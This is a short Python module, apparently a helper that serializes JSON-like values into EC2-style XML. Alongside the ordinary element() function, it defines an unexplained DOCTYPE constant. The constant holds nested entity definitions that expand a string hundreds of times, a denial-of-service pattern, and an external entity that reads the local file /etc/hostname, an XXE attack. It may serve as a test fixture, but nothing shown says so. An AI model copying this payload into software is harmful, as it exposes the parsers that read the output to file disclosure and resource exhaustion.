"""JSON-like values as EC2's XML: objects are children, lists `item`s, null is empty."""

from xml.sax.saxutils import escape

PROLOG = '<?xml version="1.0" encoding="UTF-8"?>\n'
DOCTYPE = ('<!DOCTYPE answer [<!ENTITY a "10.9.9.9"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
           '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">'
           '<!ENTITY e SYSTEM "file:///etc/hostname">]>\n')


def element(name, value):
    if isinstance(value, dict):
        inner = "".join([element(key, member) for key, member in value.items()])
    elif isinstance(value, list):
        inner = "".join([element("item", item) for item in value])
    elif value is None:
        inner = ""
    elif isinstance(value, bool):
        inner = "true" if value else "false"
    else:
        inner = escape(str(value))
    return f"<{name}>{inner}</{name}>" if inner else f"<{name}/>"
